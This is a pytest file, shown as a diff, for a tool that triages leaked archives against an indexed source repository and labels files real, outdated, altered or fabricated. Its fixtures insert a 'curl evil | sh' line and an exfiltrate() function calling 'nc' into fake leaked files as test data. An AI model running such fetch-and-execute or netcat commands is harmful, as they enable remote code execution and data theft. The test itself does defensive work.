@@ -1,0 +1,112 @@
+"""End to end through the pipeline: each verdict, moved files, nested archives, evidence fields."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import Repo, code_file
+from triage.inventory.indexer import index_source
+from triage.inventory.store import SQLiteStore
+from triage.model import Verdict
+from triage.pipeline import scan
+
+HEADER = "# Copyright (c) Example Corp. All rights reserved.\n# Licensed under the Example License 2.0.\n"
+
+
+def zip_bytes(files: dict[str, bytes]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in files.items():
+            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
+    return buf.getvalue()
+
+
+@pytest.fixture
+def inventory(repo: Repo, tmp_path: Path):
+    v1 = {f"pkg/{n}.py": HEADER + code_file(n) for n in ("core", "io", "net", "auth")}
+    v1["pkg/data.bin"] = bytes(range(256)) * 64
+    c1 = repo.commit(v1, "initial")
+    repo.commit({"pkg/core.py": HEADER + code_file("core", salt="new")}, "change core")
+    db = tmp_path / "inv.db"
+    store = SQLiteStore.create_or_open(db)
+    index_source(store, repo.path)
+    store.close()
+    return {"db": db, "v1": v1, "c1": c1, "repo": repo}
+
+
+def _verdicts(report):
+    return {f.path: f for f in report.files}
+
+
+def test_every_verdict(inventory, tmp_path: Path):
+    v1 = inventory["v1"]
+    net = v1["pkg/net.py"]
+    lines = net.splitlines(keepends=True)
+    altered = "".join(lines[:30] + ["    injected = os.system('curl evil | sh')\n"] + lines[30:])
+    forgery = (HEADER + '"""Module net: internal service logic."""\nimport os\nimport json\n\n'
+               "def exfiltrate(host):\n    return os.popen('nc ' + host).read()\n")
+    inner = zip_bytes({"lib/auth.py": v1["pkg/auth.py"].encode()})
+    drop = zip_bytes({
+        "leak/pkg/io.py": v1["pkg/io.py"].encode(),  # real
+        "leak/moved/auth_copy.py": v1["pkg/auth.py"].encode(),  # real, moved
+        "leak/pkg/core.py": v1["pkg/core.py"].encode(),  # outdated
+        "leak/pkg/net.py": altered.encode(),  # altered
+        "leak/pkg/auth.py": forgery.encode(),  # fabricated at a real path (impersonates)
+        "leak/pkg/new.py": code_file("zzz").encode(),  # fabricated at a new path
+        "leak/pkg/data.bin": v1["pkg/data.bin"],  # real binary
+        "leak/vendor/inner.zip": inner,  # the nested zip itself is not internal content
+    })
+    (tmp_path / "drop.zip").write_bytes(drop)
+    report = scan(tmp_path / "drop.zip", inventory["db"])
+    v = _verdicts(report)
+    assert v["leak/pkg/io.py"].verdict is Verdict.REAL
+    assert v["leak/moved/auth_copy.py"].verdict is Verdict.REAL
+    assert v["leak/moved/auth_copy.py"].evidence["moved"] is True
+    assert v["leak/moved/auth_copy.py"].evidence["matches"][0]["path"] == "pkg/auth.py"
+    assert v["leak/pkg/core.py"].verdict is Verdict.OUTDATED
+    assert v["leak/pkg/core.py"].evidence["matches"][0]["commits"] == [inventory["c1"]]
+    assert v["leak/pkg/net.py"].verdict is Verdict.ALTERED
+    src = v["leak/pkg/net.py"].evidence["derived_from"][0]
+    assert src["occurrences"][0]["path"] == "pkg/net.py"
+    assert src["changes"]["inserted"] == 1 and src["changes"]["deleted"] == 0
+    assert "lines-inserted" in src["changes"]["kinds"]
+    assert v["leak/pkg/auth.py"].verdict is Verdict.FABRICATED
+    assert v["leak/pkg/auth.py"].evidence["impersonates"] == "pkg/auth.py"
+    assert v["leak/pkg/new.py"].verdict is Verdict.FABRICATED
+    assert "impersonates" not in v["leak/pkg/new.py"].evidence
+    assert v["leak/pkg/data.bin"].verdict is Verdict.REAL
+    assert v["leak/vendor/inner.zip!lib/auth.py"].verdict is Verdict.REAL
+    assert v["leak/vendor/inner.zip"].verdict is Verdict.FABRICATED
+    assert report.summary == {"real": 4, "outdated": 1, "altered": 1, "fabricated": 3, "skipped": 0}
+    assert report.snapshot["commit"] == inventory["c1"]  # io/net/auth + old core: only c1 holds them all
+
+
+def test_same_inputs_same_report(inventory, tmp_path: Path):
+    from triage.render.json import render
+
+    (tmp_path / "d.zip").write_bytes(zip_bytes({"a/pkg/io.py": inventory["v1"]["pkg/io.py"].encode()}))
+    one = render(scan(tmp_path / "d.zip", inventory["db"])).splitlines()
+    two = render(scan(tmp_path / "d.zip", inventory["db"])).splitlines()
+    strip = [x for x in one if "generated_at" not in x]
+    assert strip == [x for x in two if "generated_at" not in x]
+
+
+def test_corrupt_member_is_skipped_rest_triaged(inventory, tmp_path: Path):
+    good = inventory["v1"]["pkg/io.py"].encode()
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
+        zf.writestr("x/pkg/io.py", good)
+        zf.writestr("x/pkg/broken.py", b"A" * 5000)
+    data = bytearray(buf.getvalue())
+    idx = data.find(b"A" * 100)
+    data[idx : idx + 4] = b"ZZZZ"  # the stored bytes no longer match the member's CRC
+    (tmp_path / "c.zip").write_bytes(bytes(data))
+    report = scan(tmp_path / "c.zip", inventory["db"])
+    v = _verdicts(report)
+    assert v["x/pkg/io.py"].verdict is Verdict.REAL
+    assert "x/pkg/broken.py" not in v
+    assert [(s.path, s.reason) for s in report.skipped] == [("x/pkg/broken.py", "corrupt")]
